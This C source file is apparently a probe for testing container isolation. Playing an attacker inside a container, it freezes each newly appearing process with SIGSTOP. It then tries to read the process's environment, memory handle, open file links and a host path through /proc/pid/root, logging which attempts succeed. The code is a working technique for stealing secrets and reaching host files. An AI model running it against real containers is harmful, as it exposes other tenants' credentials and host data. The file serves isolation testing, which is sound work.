/* An attacker inside a container: catch every new process of the container's pid
 * namespace (SIGSTOP as soon as it shows in /proc), look at it through /proc while it is
 * held, then let it go.  One line per catch:
 *   pid=N name=NAME capeff=HEX capprm=HEX environ=R mem=R fd=R root=R hostfile=R fds=T,...
 * where R is "ok:<detail>" or "err:<errno>".  Runs until the file STOPFILE exists.
 * usage: catch STOPFILE HOSTPATH MARKER */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static char seen[1 << 22];

static void field(const char *status, const char *key, char *out, size_t n) {
    const char *p = strstr(status, key);
    out[0] = 0;
    if (!p) return;
    p += strlen(key);
    while (*p == ' ' || *p == '\t') p++;
    size_t i = 0;
    while (p[i] && p[i] != '\n' && i + 1 < n) { out[i] = p[i]; i++; }
    out[i] = 0;
}

static void look(int pid, const char *hostpath, const char *marker) {
    char path[4096], buf[65536], name[64], eff[32], prm[32];
    char environ_r[64], mem_r[64], fd_r[64], root_r[512], host_r[64];
    static char targets[4096];
    ssize_t n;
    int fd;

    snprintf(path, sizeof path, "/proc/%d/status", pid);
    fd = open(path, O_RDONLY);
    if (fd < 0) return;
    n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n <= 0) return;
    buf[n] = 0;
    field(buf, "Name:", name, sizeof name);
    field(buf, "CapEff:", eff, sizeof eff);
    field(buf, "CapPrm:", prm, sizeof prm);

    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    fd = open(path, O_RDONLY);
    if (fd < 0) snprintf(environ_r, sizeof environ_r, "err:%d", errno);
    else {
        n = read(fd, buf, sizeof buf - 1);
        if (n < 0) snprintf(environ_r, sizeof environ_r, "err:%d", errno);
        else {
            buf[n] = 0;
            for (ssize_t i = 0; i < n; i++) if (!buf[i]) buf[i] = '\n';
            snprintf(environ_r, sizeof environ_r, "ok:%zd:%s", n, strstr(buf, marker) ? "marker" : "clean");
        }
        close(fd);
    }

    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    fd = open(path, O_RDONLY);
    if (fd < 0) snprintf(mem_r, sizeof mem_r, "err:%d", errno);
    else { snprintf(mem_r, sizeof mem_r, "ok:open"); close(fd); }

    targets[0] = 0;
    snprintf(path, sizeof path, "/proc/%d/fd", pid);
    DIR *d = opendir(path);
    if (!d) snprintf(fd_r, sizeof fd_r, "err:%d", errno);
    else {
        /* the listing is open to root; each link needs ptrace access */
        struct dirent *e;
        int links = 0, refused = 0, lasterr = 0;
        size_t used = 0;
        targets[0] = 0;
        while ((e = readdir(d))) {
            if (e->d_name[0] == '.') continue;
            char link[4352];
            snprintf(link, sizeof link, "%s/%s", path, e->d_name);
            n = readlink(link, buf, sizeof buf - 1);
            if (n < 0) { refused++; lasterr = errno; continue; }
            buf[n] = 0;
            links++;
            used += snprintf(targets + used, sizeof targets - used, "%s%.200s", used ? "," : "", buf);
            if (used >= sizeof targets) used = sizeof targets - 1;
        }
        if (links) snprintf(fd_r, sizeof fd_r, "ok:%d", links);
        else snprintf(fd_r, sizeof fd_r, "err:%d", refused ? lasterr : 0);
        closedir(d);
    }

    snprintf(path, sizeof path, "/proc/%d/root", pid);
    n = readlink(path, buf, sizeof buf - 1);
    if (n < 0) snprintf(root_r, sizeof root_r, "err:%d", errno);
    else { buf[n] = 0; snprintf(root_r, sizeof root_r, "ok:%.400s", buf); }

    snprintf(path, sizeof path, "/proc/%d/root%s", pid, hostpath);
    fd = open(path, O_RDONLY);
    if (fd < 0) snprintf(host_r, sizeof host_r, "err:%d", errno);
    else { snprintf(host_r, sizeof host_r, "ok:open"); close(fd); }

    printf("pid=%d name=%s capeff=%s capprm=%s environ=%s mem=%s fd=%s root=%s hostfile=%s fds=%s\n",
           pid, name, eff, prm, environ_r, mem_r, fd_r, root_r, host_r, targets);
    fflush(stdout);
}

/* SIGSTOP lands asynchronously: look only once the process is held (or gone). */
static void wait_stopped(int pid) {
    char path[64], buf[512];
    snprintf(path, sizeof path, "/proc/%d/stat", pid);
    for (int i = 0; i < 100000; i++) {
        int fd = open(path, O_RDONLY);
        if (fd < 0) return;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0) return;
        buf[n] = 0;
        char *p = strrchr(buf, ')');
        if (p && (p[2] == 'T' || p[2] == 't' || p[2] == 'Z')) return;
    }
}

int main(int argc, char **argv) {
    if (argc < 4) return 2;
    const char *stopfile = argv[1], *hostpath = argv[2], *marker = argv[3];
    for (int first = 1;; first = 0) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while ((e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid >= (int)sizeof seen || seen[pid]) continue;
            seen[pid] = 1;
            if (first || pid == getpid()) continue;
            if (kill(pid, SIGSTOP) != 0) continue;
            wait_stopped(pid);
            look(pid, hostpath, marker);
            kill(pid, SIGCONT);
        }
        closedir(d);
        if (first) { printf("ready\n"); fflush(stdout); }
        if (access(stopfile, F_OK) == 0) return 0;
    }
}
